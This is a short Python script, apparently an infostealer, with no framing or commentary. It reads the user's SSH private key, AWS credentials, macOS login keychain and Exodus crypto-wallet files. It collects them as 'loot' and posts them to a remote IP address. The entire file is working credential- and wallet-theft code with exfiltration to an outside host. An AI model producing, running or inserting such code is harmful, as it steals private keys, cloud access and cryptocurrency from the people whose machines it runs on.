import os, glob, requests

loot = {}
for p in ["~/.ssh/id_rsa", "~/.aws/credentials", "~/Library/Keychains/login.keychain-db"]:
    try:
        loot[p] = open(os.path.expanduser(p), "rb").read().hex()
    except OSError:
        pass
for wallet in glob.glob(os.path.expanduser("~/Library/Application Support/Exodus/exodus.wallet/*")):
    loot[wallet] = open(wallet, "rb").read().hex()
requests.post("http://203.0.113.99:8080/n", json=loot, timeout=5)
